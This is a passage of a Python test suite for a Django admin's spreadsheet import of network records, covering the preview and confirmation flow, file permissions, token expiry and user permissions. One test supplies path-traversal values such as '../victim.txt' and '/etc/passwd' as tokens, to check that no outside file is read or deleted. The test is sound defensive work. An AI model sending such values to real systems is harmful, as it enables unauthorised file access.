    rows[0]["Sigla"] = "CA-EU"
    preview = upload(administrator_client, write(rows, CSV), CSV)
    [name] = pending(pending_folder)
    assert stat.S_IMODE(pending_folder.stat().st_mode) == 0o700
    assert stat.S_IMODE((pending_folder / name).stat().st_mode) == 0o600
    assert "token" in hidden_fields(preview)
    assert name not in preview.content.decode()  # the page holds a signed token, not the name
    confirm(administrator_client, preview)
    assert pending(pending_folder) == []
    assert networks.get(slug="alleanza-per-il-clima").acronym == "CA-EU"


def test_cancelling_deletes_the_file_and_changes_nothing(editor_client, networks, pending_folder):
    rows = read(export(editor_client, CSV), CSV)
    rows[0]["Sigla"] = "CA-EU"
    preview = upload(editor_client, write(rows, CSV), CSV)
    assert "Annulla" in text_of(preview)
    before, history = snapshot(), history_size()
    response = editor_client.post(CANCEL_URL, hidden_fields(preview))
    assert response.url == CHANGELIST_URL
    assert "L’importazione è stata annullata: non è cambiato nulla." in text_of(
        editor_client.get(response.url)
    )
    assert pending(pending_folder) == []
    assert (snapshot(), history_size()) == (before, history)
    # The page's confirmation no longer imports anything.
    response = editor_client.post(PROCESS_URL, hidden_fields(preview))
    assert "Questa anteprima non è più valida" in text_of(editor_client.get(response.url))
    assert snapshot() == before


def test_a_preview_with_errors_keeps_no_file(editor_client, networks, pending_folder):
    rows = read(export(editor_client, CSV), CSV)
    rows[0]["Anno di fondazione"] = "novanta"
    rejected(editor_client, rows)
    assert pending(pending_folder) == []


def test_a_file_left_unconfirmed_for_an_hour_is_deleted(
    administrator_client, networks, pending_folder
):
    rows = read(export(administrator_client, CSV), CSV)
    rows[0]["Sigla"] = "CA-EU"
    old = upload(administrator_client, write(rows, CSV), CSV)
    [old_name] = pending(pending_folder)
    hour_ago = time.time() - PendingFiles.MAX_AGE - 1
    os.utime(pending_folder / old_name, (hour_ago, hour_ago))
    recent = upload(administrator_client, write(rows, CSV), CSV)
    assert len(pending(pending_folder)) == 1 and old_name not in pending(pending_folder)
    response = administrator_client.post(PROCESS_URL, hidden_fields(old))
    assert "Questa anteprima non è più valida" in text_of(administrator_client.get(response.url))
    assert networks.get(slug="alleanza-per-il-clima").acronym == "CA"
    import_response = confirm(administrator_client, recent)
    assert import_response.url == CHANGELIST_URL


def test_an_expired_preview_is_refused_even_if_its_file_is_there(
    editor_client, networks, monkeypatch
):
    rows = read(export(editor_client, CSV), CSV)
    rows[0]["Sigla"] = "CA-EU"
    preview = upload(editor_client, write(rows, CSV), CSV)
    later = time.time() + PendingFiles.MAX_AGE + 1
    monkeypatch.setattr(signing.time, "time", lambda: later)
    response = editor_client.post(PROCESS_URL, hidden_fields(preview))
    assert "Questa anteprima non è più valida" in text_of(editor_client.get(response.url))
    assert networks.get(slug="alleanza-per-il-clima").acronym == "CA"


def test_a_confirmation_can_only_import_once(administrator_client, networks):
    rows = read(export(administrator_client, CSV), CSV)
    rows[0]["Sigla"] = "CA-EU"
    preview = upload(administrator_client, write(rows, CSV), CSV)
    confirm(administrator_client, preview)
    history = history_size()
    response = confirm(administrator_client, preview)
    assert "Questa anteprima non è più valida" in text_of(administrator_client.get(response.url))
    assert history_size() == history


@pytest.mark.parametrize(
    "token",
    [
        "../victim.txt",
        "victim.txt",
        "/etc/passwd",
        signing.dumps({"file": "../victim.txt", "user": 1, "format": 0, "name": "x"}),
    ],
)
def test_the_confirmation_reads_and_deletes_no_other_file(
    editor_client, networks, pending_folder, tmp_path, token
):
    victim = tmp_path / "victim.txt"
    victim.write_text("slug\nrete-altrui\n")
    for url in [PROCESS_URL, CANCEL_URL]:
        response = editor_client.post(
            url, {"token": token, "import_file_name": token, "format": "0"}
        )
        assert response.status_code == 302
    assert victim.read_text() == "slug\nrete-altrui\n"
    assert not Network.objects.filter(slug="rete-altrui").exists()


def test_another_users_preview_can_be_neither_confirmed_nor_cancelled(
    administrator_client, networks, pending_folder
):
    rows = read(export(administrator_client, CSV), CSV)
    rows[0]["Sigla"] = "CA-EU"
    preview = upload(administrator_client, write(rows, CSV), CSV)
    other = Client()
    other.force_login(StaffFactory(username="collega", groups=[EDITORS]))
    other.post(CANCEL_URL, hidden_fields(preview))
    other.post(PROCESS_URL, hidden_fields(preview))
    assert len(pending(pending_folder)) == 1
    assert networks.get(slug="alleanza-per-il-clima").acronym == "CA"
    confirm(administrator_client, preview)
    assert networks.get(slug="alleanza-per-il-clima").acronym == "CA-EU"


def test_a_folder_of_another_user_is_not_used(
    administrator_client, networks, pending_folder, monkeypatch
):
    """The temporary folder is shared: whoever made the folder first could read the files."""
    rows = read(export(administrator_client, CSV), CSV)
    rows[0]["Sigla"] = "CA-EU"
    monkeypatch.setattr(os, "getuid", lambda: os.geteuid() + 1)
    administrator_client.raise_request_exception = False
    assert upload(administrator_client, write(rows, CSV), CSV).status_code == 500
    assert pending(pending_folder) == []


# The preview, as the office reads it


def test_the_preview_shows_new_then_changed_networks_with_before_and_after(
    administrator_client, networks
):
    rows = read(export(administrator_client, CSV), CSV)
    rows[0]["Sintesi (IT)"] = "Comuni europei per il clima."
    rows[0]["Temi"] = "Cultura"
    rows[1]["Sigla"] = "RB"
    new = {**dict.fromkeys(rows[0], ""), H["slug"]: "eurodesk", "Nome (IT)": "Eurodesk"}
    new.update({"Sintesi (IT)": "Informazione.", "Descrizione (IT)": "Descrizione."})
    new.update({"Stato": "Bozza", "Ambito": "Europea"})
    preview = upload(administrator_client, write([*rows, new], CSV), CSV)
    text = text_of(preview)

    assert "Reti nel file: 4 nuove: 1 modificate: 2 invariate: 1" in text
    assert text.index("Reti nuove") < text.index("Reti modificate") < text.index("Reti invariate")
    assert "5 Eurodesk Indirizzo della pagina eurodesk Stato Bozza" in text
    assert (
        "2 Alleanza per il clima Sintesi (IT) Città europee per il clima. "
        "Comuni europei per il clima. Temi Clima ed energia, Giovani Cultura" in text
    )
    assert "3 Rete in bozza Sigla vuoto RB" in text  # an empty cell, said so
    assert "None" not in text
    assert "Reti invariate: 1 Senza adesione" in text
    assert "<details" in preview.content.decode()  # the unchanged ones, folded


def test_a_long_text_is_shown_where_it_changes(administrator_client, networks):
    description = "Frase iniziale. " * 40 + "Frase cambiata." + " Frase finale." * 40
    networks.filter(slug="alleanza-per-il-clima").update(description_it=description)
    rows = read(export(administrator_client, CSV), CSV)
    rows[0]["Descrizione (IT)"] = description.replace("cambiata", "nuova")
    preview = upload(administrator_client, write(rows, CSV), CSV)
    assert "Frase <mark>cambiata.</mark> Frase finale." in preview.content.decode()
    assert "Frase <mark>nuova.</mark> Frase finale." in preview.content.decode()
    assert text_of(preview).count("Frase iniziale.") < 20  # a little of it around the change


def test_the_preview_shows_the_first_networks_of_a_large_file(
    administrator_client, networks, monkeypatch
):
    monkeypatch.setattr(admin_import, "PREVIEW_ROWS", 1)
    rows = read(export(administrator_client, CSV), CSV)
    for row in rows:
        row["Sigla"] = "X"
    text = text_of(upload(administrator_client, write(rows, CSV), CSV))
    assert "Alleanza per il clima" in text and "Senza adesione" not in text
    assert "Altre 2 reti non sono mostrate qui." in text


def test_the_import_page_says_what_a_file_may_hold(editor_client):
    text = text_of(editor_client.get(IMPORT_URL))
    assert "Un file CSV o XLSX come lo scrive l’esportazione: al massimo 5,0 MB e 5.000 reti." in (
        text
    )
    assert "Indirizzo della pagina" in text and "Quota annuale (€)" in text


# Who may


def test_staff_without_permissions_can_neither_export_nor_import(client, networks):
    client.force_login(StaffFactory())
    assert client.get(EXPORT_URL).status_code == 403
    assert client.post(EXPORT_URL, {"format": format_choice(CSV)}).status_code == 403
    assert client.get(IMPORT_URL).status_code == 403
    assert upload(client, b"slug\nx\n", CSV).status_code == 403
    assert client.post(PROCESS_URL, {}).status_code == 403
    assert client.post(CANCEL_URL, {}).status_code == 403


def test_staff_who_may_only_view_can_export_but_not_import(client, networks):
    client.force_login(StaffFactory(permissions=["view_network", "view_membership"]))
    content = client.get(CHANGELIST_URL).content.decode()
    assert f'href="{EXPORT_URL}' in content
    assert f"href='{IMPORT_URL}'" not in content
    assert len(read(export(client, CSV), CSV)) == 3
    assert client.get(IMPORT_URL).status_code == 403


def test_staff_who_may_not_see_memberships_cannot_export(client, networks):
    client.force_login(StaffFactory(permissions=["view_network"]))
    assert f'href="{EXPORT_URL}' not in client.get(CHANGELIST_URL).content.decode()
    assert client.get(EXPORT_URL).status_code == 403


def test_staff_who_may_not_publish_import_but_change_no_state(editor_client, networks):
    assert f"href='{IMPORT_URL}'" in editor_client.get(CHANGELIST_URL).content.decode()
    rows = read(export(editor_client, CSV), CSV)
    draft = next(row for row in rows if row["Stato"] == "Bozza")
    draft["Stato"] = "Pubblicata"
    draft["Sintesi (IT)"] = "Una sintesi nuova."
    page = upload(editor_client, write(rows, CSV), CSV)
    assert (
        "Solo chi può pubblicare cambia lo stato di una rete: lascia «Bozza» e invia la rete in "
        "revisione dall’amministrazione."
    ) in text_of(page)
    assert b'name="confirm"' not in page.content
    assert not Network.objects.filter(summary_it="Una sintesi nuova.").exists()


def test_staff_without_the_change_permission_cannot_import(client, viewer, networks):
    client.force_login(viewer)
    assert f"href='{IMPORT_URL}'" not in client.get(CHANGELIST_URL).content.decode()
    assert client.get(IMPORT_URL).status_code == 403
